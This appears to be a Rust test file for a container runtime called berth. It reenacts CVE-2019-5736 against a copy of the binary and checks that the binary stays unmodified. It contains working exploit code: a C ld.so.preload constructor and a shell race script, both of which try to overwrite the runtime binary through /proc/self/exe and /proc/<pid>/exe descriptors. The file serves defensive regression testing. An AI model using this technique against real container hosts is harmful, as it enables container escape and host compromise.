//! CVE-2019-5736 performed as an attacker would, against a copy of berth
//! (a defence that fails damages the copy, never target/debug/berth).
//!
//! The container's image carries a `#!/proc/self/exe` script: run by berth's
//! init or exec child, it makes the kernel start berth's binary again
//! inside the container. Against the dynamic build the image also carries a
//! dynamic loader, libc and an /etc/ld.so.preload library, whose code then
//! runs in that berth: it tries to open /proc/self/exe for writing, keeps an
//! O_PATH descriptor of it, and hands that to a shell that reopens it for
//! writing once berth has exited. Against any build, a berth started that
//! way is held blocked (`update -r -` reading stdin) while a container
//! shell opens its /proc/<pid>/exe, before and after it exits.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::*;
use serde_json::json;

/// What the library in /etc/ld.so.preload does in every dynamic program
/// of the image (busybox is static: only berth).
const PRELOAD_SOURCE: &str = r#"
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void note(const char *step, int err) {
    int log = open("/out/log", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (log < 0)
        return;
    dprintf(log, "%s %s\n", step, err == 0 ? "WROTE" : strerrorname_np(err));
    close(log);
}

static int try_write(const char *path) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return errno;
    int n = write(fd, "PWNED", 5);
    close(fd);
    return n == 5 ? 0 : EIO;
}

__attribute__((constructor)) static void attack(void) {
    note("direct", try_write("/proc/self/exe"));
    int keep = open("/proc/self/exe", O_PATH);
    if (keep < 0) {
        note("o_path", errno);
        return;
    }
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", keep);
    note("reopen", try_write(path));
    int berth = getpid();
    if (fork() == 0) {
        setsid();
        char script[1024];
        snprintf(script, sizeof script,
                 "while [ -e /proc/%d ]; do sleep 0.05; done; i=0; "
                 "while [ $i -lt 100 ]; do "
                 "if echo PWNED 2>/out/err >>/proc/self/fd/%d; then echo later WROTE >>/out/log; exit; fi; "
                 "grep -q busy /out/err || break; i=$((i+1)); sleep 0.05; done; "
                 "echo \"later $(cat /out/err)\" >>/out/log",
                 berth, keep);
        execl("/bin/sh", "sh", "-c", script, (char *)0);
        _exit(127);
    }
}
"#;

/// A copy of a berth binary in a directory of its own, and a directory
/// the container sees as /out.
struct Target {
    dir: tempfile::TempDir,
    original: PathBuf,
}

impl Target {
    fn new(original: &Path) -> Target {
        let dir = tempfile::Builder::new()
            .prefix("berth-exe-")
            .tempdir()
            .unwrap();
        std::fs::copy(original, dir.path().join("berth")).unwrap();
        std::fs::create_dir(dir.path().join("out")).unwrap();
        Target {
            dir,
            original: original.to_path_buf(),
        }
    }

    fn binary(&self) -> PathBuf {
        self.dir.path().join("berth")
    }

    fn out(&self) -> PathBuf {
        self.dir.path().join("out")
    }

    /// The attack's notes, once `lines` of them are in (or the wait is over).
    fn log(&self, lines: usize) -> String {
        let started = Instant::now();
        loop {
            let log = std::fs::read_to_string(self.out().join("log")).unwrap_or_default();
            if log.lines().count() >= lines || started.elapsed() > Duration::from_secs(20) {
                return log;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    fn assert_untouched(&self) {
        assert!(
            std::fs::read(self.binary()).unwrap() == std::fs::read(&self.original).unwrap(),
            "the attack rewrote the copy of {}",
            self.original.display()
        );
    }

    /// A bundle whose image holds the script, with /out bound from the host.
    fn bundle(&self, shebang: &str) -> Bundle {
        let mut bundle = Bundle::new();
        let script = bundle.rootfs().join("script");
        std::fs::write(&script, format!("#!{shebang}\n")).unwrap();
        std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .unwrap();
        let out = self.out();
        bundle.edit(|c| {
            c["mounts"].as_array_mut().unwrap().push(json!({
                "destination": "/out", "type": "bind",
                "source": out, "options": ["rbind", "rw"]
            }))
        });
        bundle
    }
}

/// The shared libraries `binary` loads, by the paths ldd finds them at;
/// `None` for a static binary.
fn shared_libraries(binary: &Path) -> Option<Vec<PathBuf>> {
    let out = Command::new("ldd").arg(binary).output().ok()?;
    let text = String::from_utf8_lossy(&out.stdout);
    if !out.status.success() || text.contains("not a dynamic executable") {
        return None;
    }
    Some(
        text.lines()
            .filter_map(|l| {
                let path = l.split("=>").last()?.split_whitespace().next()?;
                path.starts_with('/').then(|| PathBuf::from(path))
            })
            .collect(),
    )
}

/// The static build: $BERTH_STATIC (as bench/run.sh takes it), else what
/// scripts/build-static.sh leaves in target/static, when there is one.
fn static_build() -> Option<PathBuf> {
    let path = std::env::var_os("BERTH_STATIC")
        .map(PathBuf::from)
        .unwrap_or_else(|| {
            Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("../../target/static/x86_64-unknown-linux-gnu/release/berth")
        });
    path.exists().then_some(path)
}

/// Gives the image what a dynamic berth needs to run in it: its loader and
/// libraries at the host's paths, and the host's ld.so.cache.
fn plant_loader(bundle: &Bundle, libraries: &[PathBuf]) {
    let rootfs = bundle.rootfs();
    for lib in libraries
        .iter()
        .map(PathBuf::as_path)
        .chain([Path::new("/etc/ld.so.cache")])
    {
        let inside = rootfs.join(lib.strip_prefix("/").unwrap());
        std::fs::create_dir_all(inside.parent().unwrap()).unwrap();
        std::fs::copy(lib, &inside).unwrap();
    }
}

/// Gives the image the attacker's preloaded library. `false` (and why,
/// printed) when it cannot be built.
fn plant_preload(bundle: &Bundle, work: &Path) -> bool {
    let rootfs = bundle.rootfs();
    let source = work.join("attack.c");
    std::fs::write(&source, PRELOAD_SOURCE).unwrap();
    let library = rootfs.join("lib/berth-attack.so");
    let built = Command::new("gcc")
        .args(["-shared", "-fPIC", "-o"])
        .arg(&library)
        .arg(&source)
        .output();
    match built {
        Ok(out) if out.status.success() => {}
        Ok(out) => panic!("gcc: {}", String::from_utf8_lossy(&out.stderr)),
        Err(e) => {
            return runs_here(false, &format!("the preloaded library needs gcc ({e})"));
        }
    }
    std::fs::write(rootfs.join("etc/ld.so.preload"), "/lib/berth-attack.so\n").unwrap();
    true
}

/// The preload attack through `berth exec` and as the container's own
/// process through `berth run`.
#[test]
fn a_preloaded_library_cannot_rewrite_berth() {
    let libraries = shared_libraries(Path::new(BERTH));
    if !runs_here(
        libraries.is_some(),
        &format!("{BERTH} is static; the preload attack needs a dynamic berth"),
    ) {
        return;
    }
    let libraries = libraries.unwrap_or_default();
    let target = Target::new(Path::new(BERTH));

    // As a process exec'd into a running container.
    let mut bundle = target.bundle("/proc/self/exe");
    plant_loader(&bundle, &libraries);
    if !plant_preload(&bundle, target.dir.path()) {
        return;
    }
    bundle.args(&["sleep", "30"]);
    let berth = Berth::with_binary(&target.binary());
    let c = Container::create(&berth, &bundle, &[]);
    berth.ok(&["start", &c.id]);
    let ran = berth.run(&["exec", &c.id, "/script"]);
    let log = target.log(3);
    assert!(
        log.contains("direct "),
        "the preloaded code never ran inside berth: {}{log}",
        String::from_utf8_lossy(&ran.stderr)
    );
    assert_refused(&log, &["direct", "reopen"]);
    assert_refused_read_only(&log, &["later"]);
    drop(c);
    target.assert_untouched();

    // As the container's own process.
    std::fs::remove_file(target.out().join("log")).unwrap();
    bundle.args(&["/script"]);
    let id = unique_id("exe-run");
    berth.run(&["run", "--bundle", bundle.path().to_str().unwrap(), &id]);
    let log = target.log(2);
    assert_refused(&log, &["direct", "reopen"]);
    assert_nothing_left(&berth, &id, &bundle);
    target.assert_untouched();
}

/// The line of each step in the attack's notes.
fn steps<'a>(log: &'a str, names: &[&str]) -> Vec<&'a str> {
    names
        .iter()
        .map(|step| {
            log.lines()
                .find(|l| l.starts_with(&format!("{step} ")))
                .unwrap_or_else(|| panic!("no {step} step: {log}"))
        })
        .collect()
}

/// While berth runs, the kernel refuses writes to its binary (ETXTBSY)
/// before it looks at the mount; either refusal will do.
fn assert_refused(log: &str, names: &[&str]) {
    for line in steps(log, names) {
        let refused = [
            "EROFS",
            "ETXTBSY",
            "Read-only file system",
            "Text file busy",
        ];
        assert!(refused.iter().any(|r| line.contains(r)), "{line}\n{log}");
    }
}

/// Once berth has exited only the read-only mount stands in the way.
fn assert_refused_read_only(log: &str, names: &[&str]) {
    for line in steps(log, names) {
        assert!(line.contains("Read-only file system"), "{line}\n{log}");
    }
}

/// A berth started by the script, held blocked inside the container, is
/// opened through /proc/<pid>/exe by a container shell while it runs and
/// after it has exited.
fn hold_and_reopen(original: &Path) {
    let target = Target::new(original);
    // argv: /proc/self/exe update /script -r -: berth waits for the
    // resources on its stdin.
    let mut bundle = target.bundle("/proc/self/exe update");
    if let Some(libraries) = shared_libraries(original) {
        plant_loader(&bundle, &libraries);
    }
    bundle.args(&["sleep", "30"]);
    let berth = Berth::with_binary(&target.binary());
    let c = Container::create(&berth, &bundle, &[]);
    berth.ok(&["start", &c.id]);
    let mut held = Background::spawn(
        berth
            .cmd(&["exec", &c.id, "--", "/script", "-r", "-"])
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null()),
    );
    // The shell finds the one process whose binary is not busybox, holds
    // it open, writes to it, then (once told it exited) reopens its
    // descriptor for writing.
    let racer = r#"
        for i in $(seq 100); do
            for d in /proc/[0-9]*; do
                exe=$(readlink $d/exe 2>/dev/null) || continue
                case $exe in */busybox) ;; *) p=${d#/proc/}; break 2;; esac
            done
            sleep 0.05
        done
        [ -n "$p" ] || { echo "found none" >>/out/log; exit; }
        exec 3<$d/exe
        if echo PWNED 2>/out/err >>$d/exe; then echo direct WROTE; else echo "direct $(cat /out/err)"; fi >>/out/log
        while [ -e $d ]; do sleep 0.05; done
        # The host's berth exec runs the same file a moment longer.
        for i in $(seq 100); do
            echo PWNED 2>/out/err >>/proc/self/fd/3 && break
            grep -q busy /out/err || break
            sleep 0.05
        done
        if [ ! -s /out/err ]; then echo later WROTE; else echo "later $(cat /out/err)"; fi >>/out/log
    "#;
    let mut racing = Background::spawn(
        berth
            .cmd(&["exec", "--detach", &c.id, "sh", "-c", racer])
            .stdout(Stdio::null())
            .stderr(Stdio::null()),
    );
    let first = target.log(1);
    drop(held.0.as_mut().unwrap().stdin.take());
    held.wait();
    let log = target.log(2);
    racing.0.as_mut().unwrap().wait().unwrap();
    assert!(first.starts_with("direct "), "{log}");
    assert_refused(&log, &["direct"]);
    assert_refused_read_only(&log, &["later"]);
    drop(c);
    target.assert_untouched();
}

#[test]
fn a_running_berth_in_the_container_cannot_be_rewritten() {
    hold_and_reopen(Path::new(BERTH));
}

/// The static build loads no library, so an /etc/ld.so.preload of the
/// image never runs in it: the attack on it is the race above, a container
/// shell opening the binary of a berth the script started.
#[test]
fn the_static_build_cannot_be_rewritten() {
    let binary = static_build();
    if !runs_here(
        binary.is_some(),
        "no static build: scripts/build-static.sh makes one in target/static (a release \
         build of some minutes, which CI does not afford on every run), or name one in \
         $BERTH_STATIC",
    ) {
        return;
    }
    let binary = binary.unwrap_or_default();
    assert!(
        shared_libraries(&binary).is_none(),
        "{} is not statically linked",
        binary.display()
    );
    hold_and_reopen(&binary);
}
